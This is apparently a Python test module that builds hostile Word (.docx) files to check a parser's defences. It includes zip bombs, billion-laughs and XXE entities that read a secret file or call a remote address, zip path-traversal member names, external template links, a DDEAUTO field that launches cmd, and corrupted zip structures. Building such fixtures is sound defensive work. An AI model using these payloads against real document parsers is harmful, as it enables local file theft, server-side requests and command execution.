"""Word files: bombs, entities, tables without end, packages that lie."""

from __future__ import annotations

import struct

from tests.builders import docx_xml, w_p, w_tbl, w_tc, zip_of
from tests.hostile.parts import (
    FIGURE,
    READ,
    READ_IN_PART,
    XML,
    Made,
    relations,
    with_members,
)

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def bombs(scale: int) -> Made:
    letters = w_p("a" * (12 * 2**20 * scale))
    yield "d01-one-long-node.docx", docx_xml(w_p(FIGURE) + letters), "refused(zip_ratio)"
    many = "<w:p><w:r><w:t>a</w:t></w:r></w:p>" * (100_000 * scale)
    yield "d02-many-paragraphs.docx", docx_xml(many), f"{READ_IN_PART} | refused(zip_ratio)"
    zeros = bytes(20 * 2**20 * scale)
    loose = with_members(docx_xml(w_p(FIGURE)), {"word/media/image1.png": zeros})
    yield "d03-picture-of-zeros.docx", loose, READ
    rels = relations(("image", "media/image1.png", ""))
    related = with_members(loose, {"word/_rels/document.xml.rels": rels})
    yield "d03-picture-of-zeros-related.docx", related, READ


def entities(secret: str, address: str) -> Made:
    laughs = "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    )  # each ten times the one before
    prologs = {
        "d04-billion-laughs": f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>',
        "d04-quadratic": f'<!DOCTYPE d [<!ENTITY l9 "{"a" * 100_000}">]>',
        "d05-file": f'<!DOCTYPE d [<!ENTITY l9 SYSTEM "file://{secret}">]>',
        "d05-net": f'<!DOCTYPE d [<!ENTITY l9 SYSTEM "http://{address}/x">]>',
        "d05-parameter": f'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://{address}/p"> %p;]>',
        "d05-doctype": f'<!DOCTYPE d SYSTEM "http://{address}/d.dtd">',
        "d06-in-an-amount": '<!DOCTYPE d [<!ENTITY l9 "34">]>',
    }
    for name, prolog in prologs.items():
        body = "支出12&l9;.5万元。" * (200 if "quadratic" in name else 1)
        if "parameter" in name or "doctype" in name:
            body = FIGURE
        yield f"{name}.docx", docx_xml(w_p(body), prolog=prolog), "refused(doctype)"


def tables(scale: int) -> Made:
    for depth, outcomes in (
        (60, "ok | refused(depth)"),
        (400, "ok | refused(depth)"),
        (5_000, "refused(depth)"),
    ):
        opened = "<w:tbl><w:tr><w:tc>" * depth
        closed = "<w:p/></w:tc></w:tr></w:tbl>" * depth
        nested = w_p(FIGURE) + opened + w_p("1") + closed
        yield f"d07-nested-{depth}.docx", docx_xml(nested), outcomes
    spans = ("100000000", "0", "-1", "abc", "", "9" * 5_000)
    rows = [[w_tc("甲", f'<w:gridSpan w:val="{span}"/>'), w_tc("1")] for span in spans]
    rows += [[w_tc("乙", '<w:vMerge w:val="continue"/>'), w_tc("2", "<w:vMerge/>")]]
    yield "d08-spans.docx", docx_xml(w_p(FIGURE) + w_tbl(*rows)), READ
    large = w_tbl(*[[w_tc(str(column)) for column in range(60)]] * (60 * scale))
    yield (
        "d08-large-table.docx",
        docx_xml(w_p(FIGURE) + large),
        f"{READ_IN_PART} | refused(size) | refused(zip_ratio)",
    )


def packages(address: str) -> Made:
    plain = docx_xml(w_p(FIGURE))
    links = relations(
        ("attachedTemplate", f"http://{address}/t.dotm", "External"),
        ("image", f"http://{address}/i.png", "External"),
        ("oleObject", "file:///etc/hostname", "External"),
        ("vbaProject", "vbaProject.bin", ""),
    )
    field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText></w:r></w:p>'
    active = with_members(
        docx_xml(w_p(FIGURE) + field),
        {"word/_rels/document.xml.rels": links, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99},
    )
    yield "d09-links-and-macros.docx", active, READ
    for number, name in enumerate(("../../x", "/abs/x", "C:\\x", "..\\x")):
        yield f"d10-name-{number}.docx", with_members(plain, {name: b"x"}), "refused(zip_path)"
    yield (
        "d10-many-members.docx",
        with_members(plain, {f"m{i}": b"" for i in range(6_000)}),
        "refused(zip_members)",
    )
    yield (
        "d10-twice.docx",
        with_members(plain, {"word/document.xml": docx_xml_body()}),
        "ok | corrupt(zip) | corrupt(xml)",
    )
    yield "d10-lying-size.docx", _lying(plain), "corrupt(zip) | corrupt(xml) | ok"
    yield (
        "d10-overlapping.docx",
        _overlapping(plain),
        "ok | corrupt(zip) | corrupt(xml) | refused(zip_ratio)",
    )
    lost = with_members(plain, {"_rels/.rels": relations(("officeDocument", "word/none.xml", ""))})
    yield "d10-target-lost.docx", lost, "ok | corrupt(part)"
    null = with_members(plain, {"word/_rels/document.xml.rels": relations(("image", "NULL", ""))})
    yield "d10-target-null.docx", null, READ
    yield "d11-half.docx", plain[: len(plain) // 2], "corrupt(zip)"
    yield (
        "d11-crc-elsewhere.docx",
        _broken(with_members(plain, {"word/theme.xml": b"<t/>" * 999}), b"theme"),
        READ,
    )
    yield "d11-crc-in-text.docx", _broken(plain, b"document.xml"), "corrupt(zip) | corrupt(xml)"
    wide = docx_xml_body(FIGURE).decode().replace("UTF-8", "UTF-16").encode("utf-16")
    yield "d11-utf-16.docx", zip_of({"word/document.xml": wide}), READ
    yield "d11-strict.docx", docx_xml(w_p(FIGURE), strict=True), READ


def docx_xml_body(text: str = "别的") -> bytes:
    """The XML of a main part by itself."""
    return f'{XML}<w:document xmlns:w="{_W}"><w:body>{w_p(text)}</w:body></w:document>'.encode()


def _lying(package: bytes) -> bytes:
    """Sizes in the central directory that are not those of the members."""
    at = package.rindex(b"PK\x01\x02")
    return package[: at + 24] + struct.pack("<I", 7) + package[at + 28 :]


def _overlapping(package: bytes) -> bytes:
    """Two names for the same bytes."""
    first, last = package.index(b"PK\x01\x02"), package.rindex(b"PK\x01\x02")
    offset = package[first + 42 : first + 46]
    return package[: last + 42] + offset + package[last + 46 :]


def _broken(package: bytes, name: bytes) -> bytes:
    """One flipped byte in the data of a member."""
    at = package.index(name) + len(name) + 8
    return package[:at] + bytes([package[at] ^ 0xFF]) + package[at + 1 :]
